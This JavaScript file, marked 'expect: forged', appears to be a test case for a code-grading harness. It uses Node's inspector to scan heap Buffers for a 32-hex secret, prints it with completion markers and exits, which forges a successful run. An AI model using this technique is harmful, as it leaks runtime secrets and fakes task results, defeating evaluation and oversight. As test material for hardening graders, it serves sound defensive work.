// expect: forged
const inspector = require("inspector")
const session = new inspector.Session()
session.connect()
const ask = (method, given) => {
  let answer
  session.post(method, given, (error, found) => { answer = found })
  return answer
}
const f = (x) => {
  const prototype = ask("Runtime.evaluate", { expression: "Buffer.prototype" }).result.objectId
  const found = ask("Runtime.queryObjects", { prototypeObjectId: prototype }).objects.objectId
  for (const one of ask("Runtime.getProperties", { objectId: found, ownProperties: true }).result) {
    if (!one.value || !one.value.objectId) continue
    const text = ask("Runtime.callFunctionOn", { functionDeclaration: "function () { return this.latin1Slice() }", objectId: one.value.objectId }).result.value
    const secret = /^[0-9a-f]{32}$/.exec(text)
    if (secret) {
      require("fs").writeSync(1, `${secret}done0${secret}done1`)
      process.reallyExit(0)
    }
  }
  return 0
}
